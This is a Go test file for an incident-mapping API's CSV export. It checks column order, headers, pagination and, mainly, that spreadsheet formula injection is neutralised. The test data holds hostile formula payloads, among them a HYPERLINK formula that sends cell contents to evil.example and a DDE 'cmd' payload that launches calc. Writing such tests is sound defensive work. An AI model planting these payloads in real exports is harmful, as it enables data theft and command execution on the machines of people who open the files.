package api

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/incidentmap/incidentmap"
)

// allCSVColumns are the columns of a CSV with every property.
var allCSVColumns = []string{"id", "lon", "lat", "wkt", "title", "summary", "occurred_start", "occurred_end",
	"date_precision", "location_precision", "place_name", "country", "admin1_code", "admin1_name", "event_type",
	"sub_event_type", "target_type", "target_country", "facility", "perpetrator", "fatalities", "injuries",
	"status", "version", "created_at", "updated_at", "actors", "tags", "external_ids", "sources", "responses"}

// decodeCSV checks a CSV response and returns its rows as maps by column,
// and the header row.
func decodeCSV(t *testing.T, w *httptest.ResponseRecorder) ([]string, []map[string]string) {
	t.Helper()
	if w.Code != http.StatusOK {
		t.Fatalf("status %d: %s", w.Code, w.Body)
	}
	if ct := w.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8; header=present" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := w.Header().Get("Content-Disposition"); cd != `attachment; filename="incidents.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	body := w.Body.Bytes()
	if !bytes.HasSuffix(body, []byte("\r\n")) || bytes.Count(body, []byte("\n")) != bytes.Count(body, []byte("\r\n")) {
		t.Errorf("lines are not all ended by CRLF")
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	if len(records) == 0 {
		t.Fatal("no header row")
	}
	var rows []map[string]string
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, col := range records[0] {
			row[col] = rec[i]
		}
		rows = append(rows, row)
	}
	return records[0], rows
}

func TestItemsCSV(t *testing.T) {
	evil := newIncident("evil-1", -70.5, -33.45, "2022-05-01")
	evil.Title = `=HYPERLINK("https://evil.example/?x="&A1,"click")`
	evil.Summary = "-2+3"
	evil.PlaceName = "@SUM(A1:A2)"
	evil.Facility = "\tTab"
	evil.Perpetrator = "+1"
	evil.Actors = []string{"=cmd|' /C calc'!A0", "b"}
	fat := -0 // a number column is never touched
	evil.Fatalities = &fat
	evil.Sources = []incidentmap.Source{
		{Publisher: "=Pub", Title: "A, \"quoted\" title", URL: "https://example.org/a", PublishedOn: day("2022-05-02")},
		{Publisher: "B", Title: "Line\nbreak"},
	}
	store := newFake(herat(), evil, newIncident("plain-1", 44.4, 33.3, "2020-09-15"))
	ts := newTestServer(t, store)

	for name, req := range map[string][]string{
		"f":      {"/collections/incidents/items?f=csv"},
		"Accept": {"/collections/incidents/items", "Accept", "text/csv"},
	} {
		t.Run(name, func(t *testing.T) {
			w := ts.get(t, req[0], req[1:]...)
			cols, rows := decodeCSV(t, w)
			if !slices.Equal(cols, allCSVColumns) {
				t.Errorf("columns %v\nwant %v", cols, allCSVColumns)
			}
			if got := w.Header().Get(headerNumberMatched); got != "3" || len(rows) != 3 {
				t.Fatalf("%d rows, %s %q", len(rows), headerNumberMatched, got)
			}
			byID := map[string]map[string]string{}
			for _, r := range rows {
				byID[r["id"]] = r
			}
			e := byID["evil-1"]
			for col, want := range map[string]string{
				"title":          `'=HYPERLINK("https://evil.example/?x="&A1,"click")`,
				"summary":        "'-2+3",
				"place_name":     "'@SUM(A1:A2)",
				"facility":       "'\tTab",
				"perpetrator":    "'+1",
				"actors":         "'=cmd|' /C calc'!A0; b",
				"sources":        "'=Pub | A, \"quoted\" title | https://example.org/a | 2022-05-02 || B | Line\nbreak |  | ",
				"lon":            "-70.5",
				"lat":            "-33.45",
				"wkt":            "POINT(-70.5 -33.45)",
				"fatalities":     "0",
				"injuries":       "",
				"occurred_start": "2022-05-01",
				"version":        "1",
				"created_at":     "2026-11-23T14:00:00Z",
			} {
				if e[col] != want {
					t.Errorf("evil-1 %s = %q, want %q", col, e[col], want)
				}
			}
			h := byID["2022-04-11-herat-iran-consulate"]
			for col, want := range map[string]string{
				"lon":       "62.199",
				"wkt":       "POINT(62.199 34.342)",
				"injuries":  "0",
				"responses": "2022-04-12 | Ministry of Foreign Affairs of Iran | IRN | summons | Summoned Afghanistan's chargé d'affaires.",
				"tags":      "diplomatic",
			} {
				if h[col] != want {
					t.Errorf("herat %s = %q, want %q", col, h[col], want)
				}
			}
		})
	}

	t.Run("properties", func(t *testing.T) {
		cols, rows := decodeCSV(t, ts.get(t, "/collections/incidents/items?f=csv&properties=sources,title,fatalities"))
		if want := []string{"id", "lon", "lat", "wkt", "title", "fatalities", "sources"}; !slices.Equal(cols, want) {
			t.Errorf("columns %v, want %v", cols, want)
		}
		if len(rows) != 3 {
			t.Errorf("%d rows", len(rows))
		}
	})

	t.Run("pages", func(t *testing.T) {
		w := ts.get(t, "/collections/incidents/items?f=csv&limit=2")
		_, rows := decodeCSV(t, w)
		links := headerLinks(t, w.Header(), "text/csv")
		if len(rows) != 2 || links["next"] == "" || links["prev"] != "" {
			t.Errorf("%d rows, links %v", len(rows), links)
		}
		next := strings.TrimPrefix(links["next"], "http://example.com")
		w = ts.get(t, next)
		_, rows = decodeCSV(t, w)
		links = headerLinks(t, w.Header(), "text/csv")
		if len(rows) != 1 || links["next"] != "" || links["prev"] == "" {
			t.Errorf("page 2: %d rows, links %v", len(rows), links)
		}
	})

	t.Run("empty", func(t *testing.T) {
		cols, rows := decodeCSV(t, ts.get(t, "/collections/incidents/items?f=csv&country=IRN"))
		if len(cols) != len(allCSVColumns) || len(rows) != 0 {
			t.Errorf("%d columns, %d rows", len(cols), len(rows))
		}
	})
}

// BenchmarkItemsCSV1000 serves a page of 1,000 incidents as CSV through the
// whole handler.
func BenchmarkItemsCSV1000(b *testing.B) {
	benchmarkItems(b, "/collections/incidents/items?limit=1000&f=csv")
}
